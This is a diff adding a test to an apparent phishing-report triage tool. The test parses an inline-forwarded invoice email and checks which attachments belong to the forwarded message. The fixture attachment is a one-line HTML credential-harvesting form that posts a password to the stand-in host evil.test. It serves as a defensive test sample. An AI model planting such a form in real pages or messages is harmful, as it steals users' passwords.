@@ -140,3 +140,25 @@ describe("the event's Headers map, read by rules on the report (simulation heade
     expect(({} as Record<string, unknown>).polluted).toBeUndefined();
   });
 });
+
+describe("an inline forward's attachments", () => {
+  it("are the forwarded message's (depth 1), while a part the reporter's own words show inline stays theirs", async () => {
+    const raw = [
+      "From: Bob <bob@example.test>", "To: phish-reports@example.test", "Subject: Fwd: Invoice", "Message-ID: <inline-attach@example.test>",
+      "Date: Mon, 07 Dec 2026 09:31:00 +0000", "MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="m"', "",
+      "--m", "Content-Type: text/plain; charset=utf-8", "", "Is this real?", "",
+      "---------- Forwarded message ---------", "From: Accounts <ap@payables.test>", "Date: Mon, 7 Dec 2026 at 08:12", "Subject: Invoice", "To: <bob@example.test>", "",
+      "Your invoice is attached.", "",
+      "--m", 'Content-Type: text/html; name="INV-7.htm"', 'Content-Disposition: attachment; filename="INV-7.htm"', "",
+      "<html><form action='https://evil.test/p'><input type='password'></form></html>", "",
+      "--m", 'Content-Type: image/png; name="logo.png"', 'Content-Disposition: inline; filename="logo.png"', "Content-ID: <logo>", "Content-Transfer-Encoding: base64", "",
+      "iVBORw0KGgo=", "--m--", "",
+    ].join("\r\n");
+    const report = await readMessage(Buffer.from(raw));
+    expect(report.forwarded[0]?.forwardedInline).toBe(true);
+    expect(report.forwarded[0]!.attachments.map((file) => file.fileName)).toEqual(["INV-7.htm"]);
+    expect(report.attachments.map((file) => file.fileName)).toEqual(["logo.png"]);
+    const files = buildAlert(report, { uid: 1, folder: "INBOX" }).entities.filter((entity) => entity.type === "FILE");
+    expect(files.map((file) => [file.value, file.depth])).toEqual([["logo.png", 0], ["INV-7.htm", 1]]);
+  });
+});
